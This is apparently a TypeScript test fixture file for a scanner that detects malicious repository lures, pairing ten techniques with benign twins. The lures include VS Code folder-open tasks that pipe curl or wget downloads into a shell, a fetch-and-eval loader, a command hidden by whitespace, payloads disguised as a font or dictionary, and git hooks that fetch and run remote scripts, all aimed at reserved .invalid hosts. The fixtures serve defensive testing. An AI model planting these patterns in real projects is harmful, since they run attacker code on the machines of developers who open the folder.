// Inert fixtures: shapes of documented lures (T01–T10), reserved hosts, payloads that do nothing.
import type { TechniqueFixture } from './fixture.ts';
import { obfuscatedLine } from './shapes.ts';

const PACKAGE = '{"name":"app","scripts":{"dev":"vite"}}';
const INERT_LOADER = "fetch('https://loader.invalid/api').then((r) => r.text()).then((body) => eval(body));\n";

const fixtures: readonly TechniqueFixture[] = [
  {
    id: 'T01',
    title: 'folder-open task pipes a download into a shell on each system',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.vscode/tasks.json': JSON.stringify(
          {
            version: '2.0.0',
            tasks: [
              {
                label: 'env',
                type: 'shell',
                osx: { command: "curl -L 'https://vscode-settings.invalid/api/settings/mac?flag=5' | bash" },
                linux: { command: "wget -qO- 'https://vscode-settings.invalid/api/settings/linux?flag=5' -L | sh" },
                windows: {
                  command: 'curl --ssl-no-revoke -L https://vscode-settings.invalid/api/settings/windows?flag=5 | cmd',
                },
                problemMatcher: [],
                presentation: {
                  reveal: 'never',
                  echo: false,
                  focus: false,
                  close: true,
                  panel: 'dedicated',
                  showReuseMessage: false,
                },
                runOptions: { runOn: 'folderOpen' },
              },
            ],
          },
          null,
          2,
        ),
      },
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', indicators: ['vscode-settings.invalid'] },
    twin: {
      files: {
        'package.json': PACKAGE,
        '.vscode/tasks.json': JSON.stringify(
          {
            version: '2.0.0',
            tasks: [
              {
                label: 'toolchain',
                type: 'shell',
                command: 'curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh',
                problemMatcher: [],
              },
              { label: 'watch', type: 'npm', script: 'dev', runOptions: { runOn: 'folderOpen' } },
            ],
          },
          null,
          2,
        ),
      },
      why: 'a known installer that somebody has to start by hand, and a watcher on opening',
    },
  },
  {
    id: 'T02',
    title: 'folder-open task installs silently, then starts the back end',
    lure: {
      files: {
        'package.json': '{"name":"app","scripts":{"start":"react-scripts start"},"dependencies":{"express":"4"}}',
        'server/server.js': `require('express')();\n${INERT_LOADER}`,
        '.vscode/tasks.json': JSON.stringify(
          {
            version: '2.0.0',
            tasks: [
              {
                label: 'install-root-modules',
                type: 'shell',
                command: 'npm install --silent --no-progress',
                presentation: { reveal: 'silent', close: true },
                runOptions: { runOn: 'folderOpen' },
              },
              {
                label: 'run-backend',
                type: 'shell',
                command: 'node server.js',
                options: { cwd: '${workspaceFolder}/server' },
                isBackground: true,
                dependsOn: ['install-root-modules'],
                presentation: { reveal: 'never' },
                runOptions: { runOn: 'folderOpen' },
              },
            ],
          },
          null,
          2,
        ),
      },
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', indicators: ['loader.invalid'] },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"watch":"tsc -w"}}',
        '.vscode/tasks.json': JSON.stringify({
          version: '2.0.0',
          tasks: [
            { label: 'Install', type: 'shell', command: 'npm install', runOptions: { runOn: 'folderOpen' } },
            {
              label: 'Watch',
              type: 'npm',
              script: 'watch',
              isBackground: true,
              dependsOn: ['Install'],
              problemMatcher: '$tsc-watch',
            },
          ],
        }),
      },
      why: 'an honest project that installs when it is opened, in plain view',
    },
  },
  {
    id: 'T03',
    title: 'task command pushed off screen by blanks',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.vscode/tasks.json': `{\n  "version": "2.0.0",\n  "tasks": [\n    {\n      "label": "prepare",\n      "type": "shell",\n      "linux": { "command": "${' '.repeat(233)}wget -qO- https://far-right.invalid/task/linux?token=0 | sh" },\n      "runOptions": { "runOn": "folderOpen" }\n    }\n  ]\n}\n`,
      },
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', indicators: ['far-right.invalid'] },
    twin: {
      files: {
        'package.json': PACKAGE,
        '.vscode/tasks.json':
          '{\n    "version": "2.0.0",\n    "tasks": [\n                                        {\n                                            "label": "build", "type": "shell",          "command": "make"\n                                        }\n    ]\n}\n',
      },
      why: 'deep indentation',
    },
  },
  {
    id: 'T04',
    title: 'workspace settings that allow automatic tasks and hide the terminal',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.vscode/settings.json':
          '{\n  "typescript.tsserver.experimental.enableProjectDiagnostics": true,\n  "files.exclude": { "**/.sst": true },\n  "task.allowAutomaticTasks": true,\n  "terminal.integrated.hideOnStartup": "always",\n  "debug.openDebug": "neverOpen"\n}\n',
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"check","type":"shell","command":"node ./assets/logo.png","presentation":{"reveal":"never"},"runOptions":{"runOn":"folderOpen"}}]}',
        'assets/logo.png': INERT_LOADER,
      },
    },
    expect: { level: 'malicious', file: '.vscode/settings.json' },
    twin: {
      files: {
        'package.json': PACKAGE,
        '.vscode/settings.json':
          '{ "editor.formatOnSave": true, "typescript.tsdk": "node_modules/typescript/lib", "files.exclude": { "**/dist": true } }',
      },
      why: 'ordinary settings',
    },
  },
  {
    id: 'T05',
    title: 'task runs a web font with node',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"eslint-check","type":"shell","command":"(command -v node || where node) && node ./public/fonts/fa-brands-regular.woff2","runOptions":{"runOn":"folderOpen"}}]}',
        'public/fonts/fa-brands-regular.woff2': `${' '.repeat(300)}${obfuscatedLine(4000, 21)}`,
      },
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json' },
    twin: {
      files: {
        'package.json': '{"name":"fonts","scripts":{"fonts":"node scripts/subset.js public/fonts/text.woff2"}}',
        'scripts/subset.js': 'console.log(process.argv[2]);\n',
        'public/fonts/text.woff2': new Uint8Array([0x77, 0x4f, 0x46, 0x32, 0, 1, 0, 0, 0, 0, 1, 0]),
      },
      why: 'a font as the argument of a script',
    },
  },
  {
    id: 'T06',
    title: 'payload in a spell-check dictionary',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"spell","type":"shell","command":"node .vscode/spellright.dict","presentation":{"reveal":"never"},"runOptions":{"runOn":"folderOpen"}}]}',
        '.vscode/spellright.dict': `const dictionary = require('https');\n${INERT_LOADER}`,
      },
    },
    expect: {
      level: 'malicious',
      file: '.vscode/spellright.dict',
      via: ['.vscode/tasks.json', '.vscode/spellright.dict'],
    },
    twin: {
      files: {
        'package.json': PACKAGE,
        '.vscode/spellright.dict': 'webpack\nfunction\nrequire\neval\nasync\nconst\n',
        'cspell.json': '{"words":["eval","require"]}',
      },
      why: 'a real word list',
    },
  },
  {
    id: 'T07',
    title: 'task redirects git hooks and then checks out',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.vscode/tasks.json':
          '{"version":"2.0.0","tasks":[{"label":"sync","type":"shell","command":"git config core.hooksPath .github; git checkout main","runOptions":{"runOn":"folderOpen"}}]}',
        '.github/post-checkout':
          '#!/bin/sh\ncurl -s https://hook-stage.invalid/settings/linux?flag=6 | sh > /dev/null 2>&1 &\n',
      },
      modes: { '.github/post-checkout': 0o755 },
    },
    expect: { level: 'malicious', file: '.vscode/tasks.json', indicators: ['hook-stage.invalid'] },
    twin: {
      files: {
        'package.json': '{"name":"app","scripts":{"prepare":"git config core.hooksPath .githooks"}}',
        '.githooks/pre-commit': '#!/bin/sh\nnpm test\n',
      },
      why: 'hooks of the project set up by prepare',
    },
  },
  {
    id: 'T08',
    title: 'live hooks in a delivered .git folder',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\tbare = false\n',
        '.git/hooks/post-checkout':
          '#!/bin/sh\nmkdir -p "$HOME/.vscode"\ncurl -sL -o "$HOME/.vscode/vscode-bootstrap.sh" https://boot.invalid/l && chmod +x "$HOME/.vscode/vscode-bootstrap.sh" && nohup bash "$HOME/.vscode/vscode-bootstrap.sh" > /dev/null 2>&1 &\n',
      },
      modes: { '.git/hooks/post-checkout': 0o755 },
    },
    expect: { level: 'malicious', file: '.git/hooks/post-checkout', indicators: ['boot.invalid'] },
    twin: {
      files: {
        'package.json': PACKAGE,
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\tbare = false\n',
        '.git/hooks/pre-push':
          '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 "git-lfs was not found"; exit 2; }\ngit lfs pre-push "$@"\n',
        '.git/hooks/pre-commit.sample':
          '#!/bin/sh\n#\n# An example hook script to verify what is about to be committed.\nexec git diff-index --check --cached HEAD --\n',
      },
      modes: { '.git/hooks/pre-push': 0o755 },
      why: 'the hook that git-lfs installs, and a stock sample',
    },
  },
  {
    id: 'T09',
    title: 'hooks path inside git’s object store',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\tbare = false\n\thooksPath = .git/objects/interrupt/\n',
        '.git/objects/interrupt/pre-commit': '#!/bin/sh\ncurl -sL https://hook-object.invalid/m | sh &\n',
      },
      modes: { '.git/objects/interrupt/pre-commit': 0o755 },
    },
    expect: { level: 'malicious', file: '.git/config' },
    twin: {
      files: {
        'package.json': PACKAGE,
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config':
          '[core]\n\tbare = false\n\thooksPath = .husky\n[remote "origin"]\n\turl = https://code.example/team/app.git\n',
        '.husky/pre-commit': 'npx lint-staged\n',
      },
      why: 'husky of an older version',
    },
  },
  {
    id: 'T10',
    title: 'an implant named as a hook sample',
    lure: {
      files: {
        'package.json': PACKAGE,
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\tbare = false\n',
        '.git/hooks/update.sample': obfuscatedLine(120_000, 33),
        '.git/hooks/pre-commit':
          '#!/bin/sh\ncp .git/hooks/update.sample ~/.vscode/git-command && node ~/.vscode/git-command &\n',
      },
      modes: { '.git/hooks/pre-commit': 0o755 },
    },
    expect: { level: 'malicious', file: '.git/hooks/update.sample' },
    twin: {
      files: {
        'package.json': PACKAGE,
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\tbare = false\n',
        '.git/hooks/update.sample': `#!/bin/sh\n#\n# An example hook script to block unannotated tags from entering.\n${'# Called by "git receive-pack" with arguments: refname sha1-old sha1-new\n'.repeat(40)}exit 0\n`,
      },
      why: 'the stock sample',
    },
  },
];
export default fixtures;
